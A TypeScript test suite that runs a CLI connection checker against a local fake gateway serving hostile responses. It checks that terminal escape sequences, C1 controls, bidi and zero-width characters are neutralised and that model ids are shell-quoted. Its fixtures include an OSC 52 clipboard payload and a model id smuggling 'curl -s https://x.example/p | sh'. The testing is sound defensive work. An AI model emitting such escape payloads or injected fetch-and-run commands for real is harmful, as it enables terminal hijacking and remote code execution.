// The built terminal doctor (dist/cli.js) against a local gateway that answers with hostile text:
// escape sequences, C1 controls, bidi overrides and zero-width characters in model ids, error
// fields, the request id header, the chat reply and an HTML <title>. Nothing of it may reach the
// terminal raw, in the checklist or in --json; the suggested command line quotes ids. Also: a reader
// that closes stdout early (`| head -c 10`) gets a quiet end, and --timeout below 1 ms is 1 ms.
import { strict as assert } from 'node:assert';
import { spawn, spawnSync } from 'node:child_process';
import * as http from 'node:http';
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import { runNode, PROJECT_ROOT } from '../support/runNode';
import { startSandbox, type Sandbox } from '../../src/sandbox/server';

const CLI = join(PROJECT_ROOT, 'dist/cli.js');

// ESC [2J clears the screen, OSC 52 writes the clipboard, OSC 0 retitles the window, \r rewrites
// the line, U+009B is CSI as one C1 character, U+202E reverses text, U+200B is invisible.
const HOSTILE = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\r✓ Connected\u009b31m\u202egnp.exe\u200b\x7f';
const EVIL_ID = 'gpt-4o; curl -s https://x.example/p | sh #';
/** Raw controls (other than the newline between lines), C1, DEL, bidi and zero-width characters. */
// eslint-disable-next-line no-control-regex -- the raw characters a hostile gateway sends
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;

function env(key: string): NodeJS.ProcessEnv {
  const e: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1', RUTAAPI_API_KEY: key };
  for (const name of Object.keys(e)) if (name.startsWith('OPENAI_')) delete e[name];
  return e;
}

/** A raw HTTP/1.1 response, so header bytes are exactly what a hostile server sends. */
function respond(socket: net.Socket, status: number, headers: Record<string, string>, body: string): void {
  const payload = Buffer.from(body, 'utf8');
  const head = [
    `HTTP/1.1 ${status} X`,
    ...Object.entries(headers).map(([k, v]) => `${k}: ${v}`),
    `content-length: ${payload.length}`,
    'connection: close',
    '',
    '',
  ].join('\r\n');
  socket.end(Buffer.concat([Buffer.from(head, 'latin1'), payload]));
}

/**
 * /ok/v1: models with hostile ids (the first one a shell command) and a hostile chat reply.
 * /err/v1: 400 with a hostile error message, code and type. /html/v1: an HTML page with a hostile
 * title. Every answer carries a request id holding C1 bytes (obs-text, the most a header can carry).
 */
function startHostileGateway(): Promise<{ origin: string; close(): Promise<void> }> {
  const server = net.createServer((socket) => {
    let buffered = '';
    socket.on('error', () => undefined);
    socket.on('data', (chunk: Buffer) => {
      buffered += chunk.toString('latin1');
      const end = buffered.indexOf('\r\n\r\n');
      if (end === -1) return;
      const [method, path] = buffered.slice(0, buffered.indexOf('\r\n')).split(' ');
      const length = Number(/content-length:\s*(\d+)/i.exec(buffered.slice(0, end))?.[1] ?? 0);
      if (buffered.length - end - 4 < length) return;
      const requestId = 'req_\x9b2J\x9d52;c;eA==\x9c\xad';
      const json = { 'content-type': 'application/json', 'x-request-id': requestId };
      if (path?.startsWith('/ok/') && method === 'GET') {
        respond(
          socket,
          200,
          json,
          JSON.stringify({
            object: 'list',
            data: [EVIL_ID, `id${HOSTILE}`, 'gpt-4o-mini'].map((id) => ({ id, object: 'model', created: 1, owned_by: 'x' })),
          }),
        );
      } else if (path?.startsWith('/ok/')) {
        respond(
          socket,
          200,
          json,
          JSON.stringify({
            id: 'c1',
            object: 'chat.completion',
            created: 1,
            model: 'gpt-4o-mini',
            choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: `Hi${HOSTILE}` } }],
          }),
        );
      } else if (path?.startsWith('/err/')) {
        respond(socket, 400, json, JSON.stringify({ error: { message: `msg${HOSTILE}`, code: `code${HOSTILE}`, type: `type${HOSTILE}` } }));
      } else {
        respond(
          socket,
          200,
          { 'content-type': 'text/html', 'x-request-id': requestId },
          `<!doctype html><html><head><title>Dash${HOSTILE}</title></head><body>x</body></html>`,
        );
      }
    });
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      resolve({ origin: `http://127.0.0.1:${port}`, close: () => new Promise((done) => server.close(() => done())) });
    });
  });
}

function assertInert(text: string, what: string): void {
  const found = RAW_CONTROL.exec(text.replace(/\n/g, ''));
  assert.equal(found, null, `${what}: raw U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')} in ${JSON.stringify(text)}`);
}

describe('terminal doctor (dist/cli.js) against a hostile gateway', function () {
  this.timeout(60_000);
  let gateway: { origin: string; close(): Promise<void> };
  const key = `sk-hostile-${randomBytes(12).toString('hex')}`;
  before(async function () {
    this.timeout(120_000);
    const build = spawnSync(process.execPath, ['esbuild.mjs', '--only=cli', '--quiet'], { cwd: PROJECT_ROOT, encoding: 'utf8' });
    assert.equal(build.status, 0, build.stderr);
    gateway = await startHostileGateway();
  });
  after(async () => {
    await gateway?.close();
  });

  for (const prefix of ['ok', 'err', 'html']) {
    for (const extra of [[], ['--model', 'gpt-4o-mini'], ['--json'], ['--model', 'gpt-4o-mini', '--json']]) {
      it(`/${prefix}/v1 ${extra.join(' ')}: no raw control, C1, bidi or zero-width character on stdout or stderr`, async () => {
        const run = await runNode([CLI, 'check', '--base-url', `${gateway.origin}/${prefix}/v1`, ...extra], { env: env(key) });
        assert.ok(run.status === 0 || run.status === 1, `exit ${run.status}: ${run.stderr}`);
        assert.ok(run.stdout.length > 0, run.stderr);
        assertInert(run.stdout, 'stdout');
        assertInert(run.stderr, 'stderr');
        assert.ok(!run.stdout.includes(key) && !run.stderr.includes(key), 'key leaked');
        if (extra.includes('--json')) {
          // Still exactly one valid JSON object (the escapes are JSON escapes).
          const parsed = JSON.parse(run.stdout) as { models: string[]; steps: Array<{ requestId: string | null }> };
          if (prefix === 'ok') assert.deepEqual([parsed.models.length, parsed.models[0]], [3, EVIL_ID]);
          assert.ok(parsed.steps.length > 0 && parsed.steps.every((s) => typeof s.requestId === 'string'));
        } else {
          assert.match(run.stdout, /\\x1b|\\x9b/, 'the hostile characters are shown as visible escapes');
          const shown = { ok: '\\x1b[2J', err: 'msg\\x1b[2J', html: 'Dash\\x1b[2J' }[prefix] as string;
          assert.ok(run.stdout.includes(shown), `${shown} in ${run.stdout}`);
        }
      });
    }
  }

  it('the suggested command line quotes a model id that is a shell command', async () => {
    const run = await runNode([CLI, 'check', '--base-url', `${gateway.origin}/ok/v1`], { env: env(key) });
    assert.equal(run.status, 0, run.stderr);
    const line = run.stdout.split('\n').find((l) => l.includes('npm run doctor --')) as string;
    assert.equal(line, `  npm run doctor -- check --base-url http://127.0.0.1:${gateway.origin.split(':')[2]}/ok/v1 --model '${EVIL_ID}'`);
  });
});

describe('terminal doctor (dist/cli.js): the reader closes stdout early', function () {
  this.timeout(60_000);
  let sandbox: Sandbox;
  let big: http.Server;
  let bigUrl = '';
  before(async function () {
    this.timeout(120_000);
    const build = spawnSync(process.execPath, ['esbuild.mjs', '--only=cli', '--quiet'], { cwd: PROJECT_ROOT, encoding: 'utf8' });
    assert.equal(build.status, 0, build.stderr);
    sandbox = await startSandbox();
    // Far more output than a pipe or socket buffer holds (1 MB), also in the human list (100 ids shown), so
    // the doctor is still writing when the reader goes.
    const data = Array.from({ length: 150 }, (_, i) => ({
      id: `model-${i}-${'x'.repeat(10_000)}`,
      object: 'model',
      created: 1,
      owned_by: 'x',
    }));
    const body = JSON.stringify({ object: 'list', data });
    big = http.createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(body));
    await new Promise<void>((resolve) => big.listen(0, '127.0.0.1', () => resolve()));
    bigUrl = `http://127.0.0.1:${(big.address() as AddressInfo).port}/v1`;
  });
  after(async () => {
    await sandbox?.close();
    await new Promise((done) => big?.close(done));
  });

  /** Runs the doctor and destroys its stdout after the first bytes, like `| head -c 10`. */
  function runClosingEarly(args: string[]): Promise<{ status: number | null; signal: NodeJS.Signals | null; stderr: string; got: number }> {
    return new Promise((done, fail) => {
      const child = spawn(process.execPath, [CLI, ...args], {
        cwd: PROJECT_ROOT,
        env: env(`sk-ruta-sandbox-ok-${randomBytes(8).toString('hex')}`),
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stderr = '';
      let got = 0;
      child.stderr.on('data', (c: Buffer) => (stderr += c.toString('utf8')));
      child.stdout.once('data', (c: Buffer) => {
        got = c.length;
        child.stdout.destroy();
      });
      const killer = setTimeout(() => child.kill('SIGKILL'), 30_000);
      child.on('error', fail);
      child.on('close', (status, signal) => {
        clearTimeout(killer);
        done({ status, signal, stderr, got });
      });
    });
  }

  for (const json of [true, false]) {
    it(`${json ? '--json' : 'human'} | head -c 10: no EPIPE stack trace, a quiet end`, async () => {
      const run = await runClosingEarly(['check', '--base-url', bigUrl, ...(json ? ['--json'] : [])]);
      assert.ok(run.got > 0, 'the doctor started writing');
      assert.equal(run.stderr, '', 'nothing on stderr');
      assert.equal(run.signal, null);
      assert.equal(run.status, 0, 'the check itself passed');
    });
  }

  it('--timeout 0.0001 is 1 ms, not the 15 s default', async () => {
    const run = await runNode([CLI, 'check', '--base-url', sandbox.baseUrl, '--timeout', '0.0001', '--json'], {
      env: env(`sk-ruta-sandbox-blackhole-${randomBytes(8).toString('hex')}`),
    });
    assert.equal(run.status, 1, run.stderr);
    const parsed = JSON.parse(run.stdout) as { diagnosis: { code: string; detail: string } };
    assert.equal(parsed.diagnosis.code, 'timeout');
    assert.doesNotMatch(parsed.diagnosis.detail, /within 15 s/);
  });
});
